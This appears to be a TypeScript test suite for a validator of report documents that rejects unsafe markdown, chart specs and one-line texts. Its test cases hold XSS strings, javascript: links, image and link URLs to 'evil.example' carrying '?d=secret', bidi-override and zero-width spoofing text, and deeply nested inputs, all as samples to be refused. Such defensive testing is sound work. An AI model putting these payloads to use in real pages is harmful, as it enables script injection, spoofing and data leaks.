import { ALL_ERRORS_MAX_NODES } from './ajv';
import { MAX_REPORTED_RESULT_ERRORS, RESULT_CAPS, resultJsonCaps, validateResult, type ResultBlock, type ResultDocument, type ResultError } from './result';

// The example from ARCHITECTURE §4.
const example = (): ResultDocument => ({
  schemaVersion: 1,
  summary: 'One line for lists and notifications',
  blocks: [
    { type: 'markdown', text: '…' },
    { type: 'metric', label: 'Posts', value: 120, unit: 'posts' },
    { type: 'table', columns: ['hour', 'posts'], rows: [[0, 4]] },
    { type: 'chart', title: 'By hour', spec: { mark: 'bar', data: { values: [] }, encoding: {} } },
    { type: 'wordcloud', words: [{ text: 'hello', weight: 12 }] },
  ],
});

const withBlock = (block: unknown): unknown => ({ schemaVersion: 1, summary: 'ok', blocks: [block] });
const chart = (spec: Record<string, unknown>) => withBlock({ type: 'chart', title: 'c', spec });

function errorsOf(doc: unknown): ResultError[] {
  const result = validateResult(doc);
  if (result.ok) throw new Error('expected the result to be rejected');
  return result.errors;
}
const pathsOf = (doc: unknown) => errorsOf(doc).map((error) => error.path);

describe('validateResult', () => {
  it('accepts the ARCHITECTURE example', () => {
    expect(validateResult(example())).toEqual({ ok: true, result: example() });
  });

  it('accepts a realistic chart with inline data, a field filter and the official $schema', () => {
    const spec = {
      $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
      data: { values: [{ hour: 0, posts: 4 }] },
      transform: [{ filter: { field: 'posts', gt: 0 } }, { filter: { and: [{ field: 'hour', oneOf: [0, 1] }] } }],
      layer: [{ mark: { type: 'bar', tooltip: true } }, { mark: 'rule' }],
      encoding: {
        x: { field: 'hour', type: 'ordinal' },
        y: { field: 'posts', type: 'quantitative' },
        color: { condition: { test: { field: 'posts', gt: 3 }, value: 'red' }, value: 'grey' },
      },
    };
    expect(validateResult(chart(spec)).ok).toBe(true);
  });

  it('requires schemaVersion 1, a one-line summary and blocks', () => {
    expect(errorsOf({ ...example(), schemaVersion: 2 })).toEqual([{ path: 'schemaVersion', message: 'schemaVersion must be 1' }]);
    expect(pathsOf({ schemaVersion: 1, blocks: [] })).toEqual(['summary']);
    expect(pathsOf({ ...example(), summary: 'x'.repeat(281) })).toEqual(['summary']);
    expect(validateResult({ ...example(), summary: 'x'.repeat(280) }).ok).toBe(true);
    expect(errorsOf({ ...example(), summary: 'two\nlines' })).toEqual([
      {
        path: 'summary',
        message:
          'summary must be one line of plain text, but has a line break (U+000A) at character 3; line breaks, control characters, bidirectional controls and invisible formatting characters are not allowed',
      },
    ]);
    expect(pathsOf({ ...example(), extra: 1 })).toEqual(['extra']);
    expect(errorsOf('nope')).toEqual([{ path: '', message: 'result must be an object' }]);
  });

  describe('one-line texts (summary, metric labels and units, column names, chart titles)', () => {
    const RULE = 'line breaks, control characters, bidirectional controls and invisible formatting characters are not allowed';

    it('refuses a summary that a bidi override would show reversed, naming the character and where it is', () => {
      expect(errorsOf({ ...example(), summary: 'Your report: \u202etxt.exe' })).toEqual([
        { path: 'summary', message: `summary must be one line of plain text, but has a bidirectional control (U+202E) at character 13; ${RULE}` },
      ]);
    });

    it.each([
      ['an ANSI colour', '\u001b[31mred'],
      ['a tab', 'a\tb'],
      ['an isolate', 'a\u2067b\u2069'],
      ['a zero-width space', 'pay\u200bpal'],
      ['a C1 control', 'a\u0085b'],
      ['a line separator', 'a\u2028b'],
    ])('refuses %s in every one-line text', (_, bad) => {
      const doc = {
        schemaVersion: 1,
        summary: bad,
        blocks: [
          { type: 'metric', label: bad, value: 1, unit: bad },
          { type: 'table', columns: ['ok', bad], rows: [] },
          { type: 'chart', title: bad, spec: { mark: 'bar' } },
        ],
      };
      expect(pathsOf(doc)).toEqual(['summary', 'blocks[0].label', 'blocks[0].unit', 'blocks[1].columns[1]', 'blocks[2].title']);
    });

    it('accepts any script, emoji sequences, and hidden characters in data (cells, words, markdown)', () => {
      const doc = {
        schemaVersion: 1,
        summary: 'שלום, مرحبا, می‌خواهم 👨‍👩‍👧 — 12 posts',
        blocks: [
          { type: 'metric', label: 'Posts 👍🏽', value: 1, unit: 'פוסטים' },
          { type: 'table', columns: ['word'], rows: [['a\u200fb\tc']] },
          { type: 'wordcloud', words: [{ text: 'ab\u200e', weight: 1 }] },
          { type: 'markdown', text: 'two\n\nparagraphs' },
        ],
      };
      expect(validateResult(doc)).toEqual({ ok: true, result: doc });
    });
  });

  it('caps the number of blocks at 200', () => {
    const blocks = Array.from({ length: RESULT_CAPS.blocks }, (): ResultBlock => ({ type: 'metric', label: 'n', value: 1 }));
    expect(validateResult({ ...example(), blocks }).ok).toBe(true);
    expect(pathsOf({ ...example(), blocks: [...blocks, blocks[0]] })).toEqual(['blocks']);
  });

  it('names an unknown block type and the allowed ones', () => {
    expect(errorsOf(withBlock({ type: 'html', html: '<b>' }))).toEqual([
      { path: 'blocks[0].type', message: 'blocks[0].type must be one of markdown, metric, table, chart, wordcloud' },
    ]);
    expect(pathsOf(withBlock({ text: 'no type' }))).toContain('blocks[0].type');
  });

  it('rejects unknown fields inside blocks', () => {
    expect(pathsOf(withBlock({ type: 'metric', label: 'a', value: 1, color: 'red' }))).toEqual(['blocks[0].color']);
  });

  describe('markdown', () => {
    it.each([
      '<script>alert(1)</script>',
      'hi <img src=x onerror=alert(1)>',
      'a </div> b',
      '<!-- hidden -->',
      '<!DOCTYPE html>',
      '<?xml version="1.0"?>',
      '<https://example.com>',
    ])('rejects raw HTML: %j', (text) => {
      const errors = errorsOf(withBlock({ type: 'markdown', text }));
      expect(errors).toHaveLength(1);
      expect(errors[0]!.path).toBe('blocks[0].text');
      expect(errors[0]!.message).toContain('markdown must not contain raw HTML');
    });

    it('accepts markdown without markup, including a lone "<" before a space or digit', () => {
      expect(validateResult(withBlock({ type: 'markdown', text: '# Title\n\n**bold**, 3 < 4, a <= b, &lt;script&gt;' })).ok).toBe(true);
    });

    it.each([
      ['an inline link', 'see [this](https://evil.example/?d=secret)', 'links ("](" at character 9)'],
      ['a javascript: link', '[click](javascript:alert(1))', 'links ("](" at character 6)'],
      ['a link to an anchor', '[top](#top)', 'links ("](" at character 4)'],
      ['a link with an entity-encoded scheme', '[x](&#106;avascript:alert(1))', 'links ("](" at character 2)'],
      [
        'a reference definition (which turns [x][r] into a link)',
        'see [x][r]\n\n[r]: https://evil.example',
        'link or footnote definitions ("]:" at character 14)',
      ],
      ['a definition for a shortcut reference', '[r]\n\n[r]: <https://evil.example>', 'link or footnote definitions ("]:" at character 7)'],
      ['a definition inside a block quote', '> [r]: https://evil.example\n\n[r]', 'link or footnote definitions ("]:" at character 4)'],
      ['a definition whose label spans lines', '[a\nb]: https://evil.example\n\n[a b]', 'link or footnote definitions ("]:" at character 4)'],
      ['a footnote definition', 'a claim[^1]\n\n[^1]: a note', 'link or footnote definitions ("]:" at character 16)'],
      ['an autolink', 'mail <mailto:me@evil.example>', 'raw HTML (found "<mailto:me@e" at character 5)'],
      ['an email autolink', 'write to <me@evil.example>', 'raw HTML (found "<me@evil.exa" at character 9)'],
      ['an HTML link', 'a <a href="https://evil.example">link</a>', 'raw HTML (found "<a" at character 2)'],
      ['an image by reference', '![x][r]', 'images ("![" at character 0)'],
    ])('rejects %s, since no markdown may link anywhere', (_, text, found) => {
      const errors = errorsOf(withBlock({ type: 'markdown', text }));
      expect(errors.map((error) => error.message)).toContainEqual(expect.stringContaining(`blocks[0].text is rejected: markdown must not contain ${found}`));
    });

    it('says how to write a URL or a literal bracket instead', () => {
      const [error] = errorsOf(withBlock({ type: 'markdown', text: '[x](https://e.example)' }));
      expect(error!.message).toBe(
        'blocks[0].text is rejected: markdown must not contain links ("](" at character 2); write a URL as plain text, which is shown but never linked, or "]\\(" for a literal "]("',
      );
    });

    it('accepts URLs as plain text, and brackets that make no link', () => {
      const text = 'Sources: https://example.org/paper and www.example.org. Items [1], [x][nowhere], a[0] + b[1], [ref], ]\\( and ]\\: escaped.';
      expect(validateResult(withBlock({ type: 'markdown', text })).ok).toBe(true);
    });

    it('rejects images, which would load from outside the platform', () => {
      expect(errorsOf(withBlock({ type: 'markdown', text: '![x](https://evil.example/?d=secret)' }))[0]!.message).toMatch(/must not contain images/);
    });

    it('caps text at 100k characters', () => {
      expect(validateResult(withBlock({ type: 'markdown', text: 'a'.repeat(100_000) })).ok).toBe(true);
      expect(pathsOf(withBlock({ type: 'markdown', text: 'a'.repeat(100_001) }))).toEqual(['blocks[0].text']);
    });
  });

  describe('metric', () => {
    it('needs a label and a numeric value', () => {
      expect(validateResult(withBlock({ type: 'metric', label: 'Posts', value: 1.5 })).ok).toBe(true);
      expect(pathsOf(withBlock({ type: 'metric', label: 'Posts', value: '12' }))).toEqual(['blocks[0].value']);
      expect(pathsOf(withBlock({ type: 'metric', value: 1 }))).toEqual(['blocks[0].label']);
      expect(pathsOf(withBlock({ type: 'metric', label: 'a', value: Number.NaN }))).toEqual(['blocks[0].value']);
    });
  });

  describe('table', () => {
    it('accepts scalar cells', () => {
      expect(validateResult(withBlock({ type: 'table', columns: ['a', 'b', 'c', 'd'], rows: [['x', 1, true, null]] })).ok).toBe(true);
    });

    it('rejects rows whose length differs from the columns', () => {
      expect(errorsOf(withBlock({ type: 'table', columns: ['a', 'b'], rows: [[1, 2], [1]] }))).toEqual([
        { path: 'blocks[0].rows[1]', message: 'blocks[0].rows[1] has 1 cell but the table has 2 columns' },
      ]);
    });

    it('rejects non-scalar cells', () => {
      expect(errorsOf(withBlock({ type: 'table', columns: ['a'], rows: [[{ nested: 1 }]] }))).toEqual([
        { path: 'blocks[0].rows[0][0]', message: 'blocks[0].rows[0][0] must be a string, number, boolean or null' },
      ]);
    });

    it('caps columns at 50 and rows at 10k', () => {
      const columns = Array.from({ length: 51 }, (_, i) => `c${i}`);
      expect(pathsOf(withBlock({ type: 'table', columns, rows: [] }))).toEqual(['blocks[0].columns']);
      const rows = Array.from({ length: 10_000 }, () => [1]);
      expect(validateResult(withBlock({ type: 'table', columns: ['a'], rows })).ok).toBe(true);
      expect(pathsOf(withBlock({ type: 'table', columns: ['a'], rows: [...rows, [1]] }))).toEqual(['blocks[0].rows']);
    });
  });

  describe('chart', () => {
    it.each<[string, Record<string, unknown>, string]>([
      ['data.url', { mark: 'bar', data: { url: 'https://evil.example/data.json' } }, 'blocks[0].spec.data.url'],
      [
        'a url in a lookup',
        { mark: 'bar', data: { values: [] }, transform: [{ lookup: 'a', from: { data: { url: 'x.csv' }, key: 'a' } }] },
        'blocks[0].spec.transform[0].lookup',
      ],
      ['a url key inside data values', { mark: 'bar', data: { values: [{ url: 'https://evil.example' }] } }, 'blocks[0].spec.data.values[0].url'],
      ['an href encoding', { mark: 'bar', data: { values: [] }, encoding: { href: { field: 'link' } } }, 'blocks[0].spec.encoding.href'],
      ['an href on a mark', { mark: { type: 'bar', href: 'https://evil.example' }, data: { values: [] } }, 'blocks[0].spec.mark.href'],
      ['an image mark', { mark: 'image', data: { values: [] } }, 'blocks[0].spec.mark'],
      ['an image mark object in a layer', { data: { values: [] }, layer: [{ mark: { type: 'image' } }] }, 'blocks[0].spec.layer[0].mark.type'],
      ['usermeta', { mark: 'bar', data: { values: [] }, usermeta: { embedOptions: {} } }, 'blocks[0].spec.usermeta'],
      ['a foreign $schema', { $schema: 'https://evil.example/schema.json', mark: 'bar', data: { values: [] } }, 'blocks[0].spec.$schema'],
      ['a Vega (not Vega-Lite) $schema', { $schema: 'https://vega.github.io/schema/vega/v5.json', mark: 'bar' }, 'blocks[0].spec.$schema'],
      ['a data generator', { mark: 'bar', data: { sequence: { start: 0, stop: 1e9 } } }, 'blocks[0].spec.data'],
      [
        'a calculate expression',
        { mark: 'bar', data: { values: [] }, transform: [{ calculate: 'datum.a', as: 'b' }] },
        'blocks[0].spec.transform[0].calculate',
      ],
      ['a filter expression', { mark: 'bar', data: { values: [] }, transform: [{ filter: 'datum.a > 1' }] }, 'blocks[0].spec.transform[0].filter'],
      [
        'an expression inside a filter composition',
        { mark: 'bar', transform: [{ filter: { and: ['datum.a > 1'] } }] },
        'blocks[0].spec.transform[0].filter.and[0]',
      ],
      [
        'a condition test expression',
        { mark: 'bar', encoding: { color: { condition: { test: 'datum.a', value: 'red' } } } },
        'blocks[0].spec.encoding.color.condition.test',
      ],
      ['an ExprRef', { mark: { type: 'bar', opacity: { expr: 'random()' } } }, 'blocks[0].spec.mark.opacity'],
      ['a bound param', { mark: 'bar', params: [{ name: 'p', bind: { input: 'range' } }] }, 'blocks[0].spec.params'],
      ['a CSS url() colour', { mark: { type: 'bar', fill: 'url(https://evil.example/x)' } }, 'blocks[0].spec.mark.fill'],
    ])('rejects %s', (_, spec, path) => {
      expect(pathsOf(chart(spec))).toContain(path);
    });

    it('says why a URL is rejected', () => {
      const error = errorsOf(chart({ mark: 'bar', data: { url: 'x' } })).find((e) => e.path === 'blocks[0].spec.data.url');
      expect(error?.message).toBe(
        'blocks[0].spec.data.url is not allowed: a chart uses inline data (data.values), never a URL; rename a data field called "url"',
      );
    });

    it('rejects a spec nested too deeply without overflowing the stack', () => {
      let deep: Record<string, unknown> = { leaf: 1 };
      for (let i = 0; i < 100_000; i++) deep = { a: deep };
      const errors = errorsOf(chart({ mark: 'bar', data: { values: [deep] } }));
      expect(errors.map((error) => error.message).join(' ')).toMatch(/nested/);
    });
  });

  describe('wordcloud', () => {
    it('needs words with a non-negative weight, at most 1000', () => {
      expect(pathsOf(withBlock({ type: 'wordcloud', words: [{ text: 'a', weight: -1 }] }))).toEqual(['blocks[0].words[0].weight']);
      expect(pathsOf(withBlock({ type: 'wordcloud', words: [{ text: 'a' }] }))).toEqual(['blocks[0].words[0].weight']);
      const words = Array.from({ length: 1000 }, (_, i) => ({ text: `w${i}`, weight: i }));
      expect(validateResult(withBlock({ type: 'wordcloud', words })).ok).toBe(true);
      expect(pathsOf(withBlock({ type: 'wordcloud', words: [...words, { text: 'x', weight: 1 }] }))).toEqual(['blocks[0].words']);
    });
  });

  it('rejects NUL characters in any string', () => {
    expect(errorsOf({ ...example(), summary: 'a\u0000b' })).toEqual([{ path: 'summary', message: 'summary must not contain NUL characters' }]);
    expect(pathsOf(withBlock({ type: 'table', columns: ['a'], rows: [['x\u0000']] }))).toEqual(['blocks[0].rows[0][0]']);
    expect(pathsOf(chart({ mark: 'bar', data: { values: [{ a: '\u0000' }] } }))).toEqual(['blocks[0].spec.data.values[0].a']);
  });

  it('lists a bounded number of errors and counts the rest', () => {
    const rows = Array.from({ length: 500 }, () => [1, 2]);
    const errors = errorsOf(withBlock({ type: 'table', columns: ['a'], rows }));
    expect(errors).toHaveLength(MAX_REPORTED_RESULT_ERRORS + 1);
    expect(errors[MAX_REPORTED_RESULT_ERRORS]).toEqual({ path: '', message: '…and 450 more problems' });
  });
});

describe('validateResult holds a document to its JSON caps first', () => {
  /** A chart whose spec nests wide arrays `depth` deep: the shape that exhausted the worker's heap. */
  const wideNestedChart = (depth: number, width: number) => {
    let value: unknown[] = Array.from({ length: width }, () => 0);
    for (let level = 1; level < depth; level++) value = [...Array.from({ length: width }, () => 0), value];
    return chart({ mark: 'bar', data: { values: value } });
  };

  it('refuses a wide document nested 250 deep as one error, naming where the walk stopped', () => {
    expect(errorsOf(wideNestedChart(250, 40))).toEqual([
      { path: '', message: expect.stringMatching(/^result is nested more than 72 levels deep \(at blocks\[0\]\.spec\.data\.values(\[40\]){67}\)$/) },
    ]);
  });

  it('derives its caps from the byte cap, and holds each on both sides', () => {
    const caps = resultJsonCaps(4 * 1024 * 1024);
    expect(caps).toEqual({
      maxBytes: 4 * 1024 * 1024,
      maxDepth: RESULT_CAPS.chartDepth + 8,
      maxNodes: 1024 * 1024,
      maxStringLength: 1024 * 1024,
      maxPathWeight: 12 * 1024 * 1024,
    });
    const small = resultJsonCaps(4096); // 1,024 values, path weight 12,288
    const table = (rows: number) => withBlock({ type: 'table', columns: ['a', 'b', 'c'], rows: Array.from({ length: rows }, () => [1, 2, 3]) });
    // 11 values around the rows, then 4 per row: 1,023 with 253 rows.
    expect(validateResult(table(253), small).ok).toBe(true);
    expect(validateResult(table(254), small)).toMatchObject({ ok: false, errors: [{ message: expect.stringMatching(/^result has more than 1024 values/) }] });
    const deepChart = (depth: number) => {
      let spec: Record<string, unknown> = { leaf: 1 };
      for (let i = 1; i < depth; i++) spec = { a: spec };
      return chart({ mark: 'bar', config: spec });
    };
    // doc, blocks, block and spec are 4 levels; config adds its own.
    expect(validateResult(deepChart(RESULT_CAPS.chartDepth + 3)).ok).toBe(false);
    expect(errorsOf(deepChart(RESULT_CAPS.chartDepth + 3))[0]!.message).not.toMatch(/^result is nested more than 72/);
    expect(errorsOf(deepChart(RESULT_CAPS.chartDepth + 5))[0]!.message).toMatch(/^result is nested more than 72 levels deep/);
  });

  it('accepts the largest table the schema allows (10,000 rows of 50 cells) within the 4 MiB caps', () => {
    const columns = Array.from({ length: RESULT_CAPS.tableColumns }, (_, i) => `c${i}`);
    const rows = Array.from({ length: RESULT_CAPS.tableRows }, () => Array.from({ length: RESULT_CAPS.tableColumns }, () => 1));
    expect(validateResult(withBlock({ type: 'table', columns, rows })).ok).toBe(true);
  });

  it('lists every schema problem of a small document, and stops at the first in a large one', () => {
    const cells = (rows: number) => withBlock({ type: 'table', columns: ['a', 'b'], rows: Array.from({ length: rows }, () => [{}, {}]) });
    expect(errorsOf(cells(2)).map((error) => error.path)).toEqual([
      'blocks[0].rows[0][0]',
      'blocks[0].rows[0][1]',
      'blocks[0].rows[1][0]',
      'blocks[0].rows[1][1]',
    ]);
    // Past ALL_ERRORS_MAX_NODES values (3 per row here), one error object instead of one per bad cell.
    expect(errorsOf(cells(ALL_ERRORS_MAX_NODES / 2)).map((error) => error.path)).toEqual(['blocks[0].rows[0][0]']);
  });
});
